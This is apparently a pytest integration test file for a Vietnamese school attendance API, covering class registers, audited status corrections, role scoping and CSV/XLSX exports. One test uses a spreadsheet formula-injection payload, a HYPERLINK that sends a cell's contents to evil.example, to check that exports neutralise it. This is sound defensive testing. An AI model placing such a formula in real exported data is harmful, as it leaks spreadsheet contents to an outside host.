"""Attendance reports and corrections through the API, on events stored by the real
store path."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import datetime

import psycopg
import pytest
from fastapi.testclient import TestClient

from core.settings import Settings
from hub.accounts.auth import create_user, ensure_admin
from hub.api.app import create_app
from tests.integration.test_notify_support import OTHER_GATE, VN, gate_payload, ingest, seed

pytestmark = pytest.mark.integration

SECRET = "test-secret-" + "x" * 40
PASSWORD = "pass-123456"
DAY = "2025-09-08"  # a Monday, in the past whatever the clock says


def at(hh: int, mm: int, ss: int = 0, day: int = 8) -> datetime:
    return datetime(2025, 9, day, hh, mm, ss, tzinfo=VN)


@pytest.fixture
def client(pg_url: str, tmp_path) -> Iterator[TestClient]:
    seed(pg_url)
    ingest(pg_url, [
        ("gate-a1", gate_payload(1, "C0001", at(6, 52))),
        ("gate-a1", gate_payload(2, "C0001", at(6, 52, 4))),  # a double tap
        ("gate-a1", gate_payload(3, "C0001", at(16, 30), direction="out")),
        (OTHER_GATE, gate_payload(1, "C0002", at(6, 40), device=OTHER_GATE)),
        ("gate-a1", gate_payload(4, "C0002", at(7, 10))),
        ("gate-a1", gate_payload(5, "C0003", at(16, 35), direction="out")),
        ("gate-a1", gate_payload(6, "C0004", at(6, 45), decision="denied")),
        ("gate-a1", gate_payload(7, "C0001", at(6, 58, day=9))),  # Tuesday
    ])
    with psycopg.connect(pg_url, autocommit=True) as conn:
        ensure_admin(conn, password=PASSWORD)
        for name, role, school in (("gv.an", "teacher", "thcs-a"),
                                   ("gv.khac", "teacher", "thcs-a"),
                                   ("bgh.a", "school_admin", "thcs-a"),
                                   ("bgh.b", "school_admin", "th-b"),
                                   ("tt", "control_room", None)):
            create_user(conn, username=name, password=PASSWORD, role=role,  # type: ignore[arg-type]
                        school_id=school)
        conn.execute("update classes set teacher_username = 'gv.an', homeroom_teacher = 'Cô An'")
        conn.execute("insert into school_calendar (day, school_id, kind, note)"
                     " values ('2025-09-02', null, 'holiday', 'Quốc khánh')")
    app = create_app(Settings(_env_file=None, data_dir=tmp_path, secret_key=SECRET),
                     database_url=pg_url, mqtt_display="mqtt://127.0.0.1:1883")
    with TestClient(app) as c:
        yield c


def auth(client: TestClient, username: str) -> dict[str, str]:
    r = client.post("/api/v1/auth/token", data={"username": username, "password": PASSWORD})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['access_token']}"}


def class_id(client: TestClient, h: dict[str, str]) -> int:
    r = client.get(f"/api/v1/attendance/daily?date={DAY}&school=thcs-a&by_class=true",
                   headers=h)
    assert r.status_code == 200, r.text
    return int(r.json()["rows"][0]["class_id"])


def test_class_register_derives_status_and_flags(client: TestClient) -> None:
    h = auth(client, "gv.an")
    r = client.get(f"/api/v1/attendance/register?class_id={class_id(client, h)}&date={DAY}",
                   headers=h)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["class_name"] == "6A1" and body["school_day"] is True
    rows = {s["student"]: s for s in body["students"]}
    assert {k: (v["status"], v["flags"]) for k, v in rows.items()} == {
        "HS001": ("present", ["duplicate-taps"]),
        "HS002": ("late", ["other-school"]),
        "HS003": ("present", ["out-without-in"]),
        "HS004": ("absent", []),
    }
    assert rows["HS001"]["first_in"] == "2025-09-08T06:52:00+07:00"
    assert rows["HS001"]["last_out"] == "2025-09-08T16:30:00+07:00"
    assert rows["HS004"]["correction"] is None


def test_register_of_another_school_is_not_found(client: TestClient) -> None:
    cid = class_id(client, auth(client, "admin"))
    r = client.get(f"/api/v1/attendance/register?class_id={cid}&date={DAY}",
                   headers=auth(client, "bgh.b"))
    assert r.status_code == 404
    r = client.get(f"/api/v1/attendance/register?class_id=999999&date={DAY}",
                   headers=auth(client, "admin"))
    assert r.status_code == 404


def test_teacher_corrects_with_reason_audited_and_reports_follow(client: TestClient) -> None:
    h = auth(client, "gv.an")
    r = client.post(f"/api/v1/attendance/HS004/{DAY}/correction", headers=h,
                    json={"status": "excused", "reason": "Ốm, mẹ gọi điện xin phép"})
    assert r.status_code == 201, r.text
    c = r.json()
    assert c["before"]["status"] == "absent" and c["after"]["status"] == "excused"
    assert c["corrected_by"] == "gv.an" and c["reason"] == "Ốm, mẹ gọi điện xin phép"

    r = client.post(f"/api/v1/attendance/HS004/{DAY}/correction", headers=auth(client, "bgh.a"),
                    json={"status": "absent", "reason": "Phụ huynh rút lại"})
    assert r.status_code == 201
    assert r.json()["before"]["status"] == "excused"
    r = client.post(f"/api/v1/attendance/HS004/{DAY}/correction", headers=h,
                    json={"status": "excused", "reason": "Có giấy xin phép"})
    assert r.status_code == 201

    audit = client.get(f"/api/v1/attendance/HS004/{DAY}/corrections", headers=h).json()
    assert [(a["corrected_by"], a["before"]["status"], a["after"]["status"]) for a in audit] == [
        ("gv.an", "absent", "excused"), ("bgh.a", "excused", "absent"),
        ("gv.an", "absent", "excused")]

    reg = client.get(f"/api/v1/attendance/register?class_id={class_id(client, h)}&date={DAY}",
                     headers=h).json()
    hs4 = next(s for s in reg["students"] if s["student"] == "HS004")
    assert hs4["status"] == "excused" and hs4["correction"]["reason"] == "Có giấy xin phép"
    assert "corrected" in hs4["flags"]
    daily = client.get(f"/api/v1/attendance/daily?date={DAY}&school=thcs-a", headers=h).json()
    # Bình's 06:40 pass at another school's gate is not her first entry here: the rollup
    # counts own-school gates only, so summaries and the register agree she is late.
    assert daily["rows"][0] == {
        "school": "thcs-a", "class_id": None, "class_name": None, "school_day": True,
        "enrolled": 4, "present": 2, "late": 1, "absent": 0, "excused": 1, "pending": 0}


@pytest.mark.parametrize(("user", "body", "code"), [
    ("gv.khac", {"status": "excused", "reason": "x"}, 403),  # not this class's teacher
    ("bgh.b", {"status": "excused", "reason": "x"}, 403),  # another school
    ("tt", {"status": "excused", "reason": "x"}, 403),
    ("gv.an", {"status": "excused", "reason": ""}, 422),
    ("gv.an", {"status": "excused", "reason": "   "}, 422),
    ("gv.an", {"status": "no-school", "reason": "x"}, 422),
    ("gv.an", {"status": "excused"}, 422),
])
def test_correction_refusals(client: TestClient, user, body, code) -> None:
    r = client.post(f"/api/v1/attendance/HS004/{DAY}/correction", headers=auth(client, user),
                    json=body)
    assert r.status_code == code, r.text
    r = client.get(f"/api/v1/attendance/HS004/{DAY}/corrections", headers=auth(client, "admin"))
    assert r.json() == []


def test_correction_of_unknown_student_is_404(client: TestClient) -> None:
    r = client.post(f"/api/v1/attendance/NOPE/{DAY}/correction", headers=auth(client, "admin"),
                    json={"status": "excused", "reason": "x"})
    assert r.status_code == 404


def test_district_daily_summary_and_scoping(client: TestClient) -> None:
    rows = client.get(f"/api/v1/attendance/daily?date={DAY}",
                      headers=auth(client, "admin")).json()["rows"]
    # th-b has no students; Bình is late (her pass at another school's gate does not count)
    assert [(r["school"], r["enrolled"], r["present"], r["late"], r["absent"]) for r in rows] \
        == [("thcs-a", 4, 2, 1, 1)]
    scoped = client.get(f"/api/v1/attendance/daily?date={DAY}",
                        headers=auth(client, "bgh.b")).json()["rows"]
    assert scoped == []
    holiday = client.get("/api/v1/attendance/daily?date=2025-09-02",
                         headers=auth(client, "admin")).json()["rows"]
    assert holiday[0]["school_day"] is False and holiday[0]["absent"] == 0
    # the existing summary keeps its shape
    summary = client.get(f"/api/v1/attendance/summary?date={DAY}",
                         headers=auth(client, "admin")).json()
    assert summary["totals"]["enrolled"] == 4


def test_monthly_rates_per_class(client: TestClient) -> None:
    r = client.get("/api/v1/attendance/monthly?school=thcs-a&month=2025-09",
                   headers=auth(client, "bgh.a"))
    assert r.status_code == 200, r.text
    (row,) = r.json()["classes"]
    # September 2025: 22 weekdays, minus the 2nd (national day)
    assert row["school_days"] == 21 and row["student_days"] == 84
    assert (row["present"], row["late"], row["absent"]) == (3, 1, 80)
    assert row["attendance_rate"] == round(4 / 84, 4)
    assert client.get("/api/v1/attendance/monthly?school=thcs-a&month=2025-09",
                      headers=auth(client, "bgh.b")).status_code == 404
    assert client.get("/api/v1/attendance/monthly?school=thcs-a&month=2025-13",
                      headers=auth(client, "admin")).status_code == 422


def test_exports_csv_and_xlsx(client: TestClient) -> None:
    from openpyxl import load_workbook

    h = auth(client, "admin")
    cid = class_id(client, h)
    r = client.get(f"/api/v1/attendance/register?class_id={cid}&date={DAY}&format=csv",
                   headers=h)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    text = r.content.decode("utf-8")
    assert text.startswith("\ufeffMã học sinh,Họ và tên,Trạng thái,Giờ vào")
    assert "Nguyễn Văn An" in text and "2025-09-08 06:52:00" in text
    english = client.get(f"/api/v1/attendance/register?class_id={cid}&date={DAY}&format=csv"
                         "&lang=en", headers=h).content.decode("utf-8")
    assert english.startswith("\ufeffStudent code,Full name,Status,First in")

    r = client.get("/api/v1/attendance/monthly?school=thcs-a&month=2025-09&format=xlsx",
                   headers=h)
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    values = list(ws.values)
    assert values[0][0] == "Tỷ lệ chuyên cần thcs-a tháng 09/2025"  # the title row
    assert values[1][:3] == ("Trường", "Mã lớp (số)", "Lớp")
    assert values[2][2] == "6A1"
    assert ws.freeze_panes == "A3"
    r = client.get(f"/api/v1/attendance/daily?date={DAY}&format=xlsx", headers=h)
    assert r.status_code == 200 and r.content[:2] == b"PK"


def test_exports_are_inert(client: TestClient) -> None:
    """Issue 12: a correction reason beginning with = + - @ comes back as text: a string
    cell in XLSX, a cell behind a quote in CSV."""
    from openpyxl import load_workbook

    h = auth(client, "admin")
    reason = '=HYPERLINK("http://evil.example/?"&B3,"Xem")'
    r = client.post(f"/api/v1/attendance/HS004/{DAY}/correction", headers=h,
                    json={"status": "excused", "reason": reason})
    assert r.status_code == 201, r.text
    url = f"/api/v1/attendance/register?class_id={class_id(client, h)}&date={DAY}"
    text = client.get(f"{url}&format=csv", headers=h).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    at = rows[0].index("Lý do điều chỉnh")
    (hs4,) = [row for row in rows if row[0] == "HS004"]
    assert hs4[at] == "'" + reason and hs4[2] == "Có phép"
    ws = load_workbook(io.BytesIO(client.get(f"{url}&format=xlsx", headers=h).content)).active
    assert ws is not None
    assert ws["A1"].value == "Sổ điểm danh lớp 6A1 ngày 08/09/2025"
    cells = [c for row in ws.iter_rows() for c in row if c.value == reason]
    assert len(cells) == 1 and cells[0].data_type == "s"
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_notifications_list_is_for_admins(client: TestClient) -> None:
    assert client.get("/api/v1/notifications", headers=auth(client, "gv.an")).status_code == 403
    assert client.get("/api/v1/notifications", headers=auth(client, "admin")).json() == []
    r = client.post("/api/v1/notifications/1/retry", headers=auth(client, "admin"))
    assert r.status_code == 404
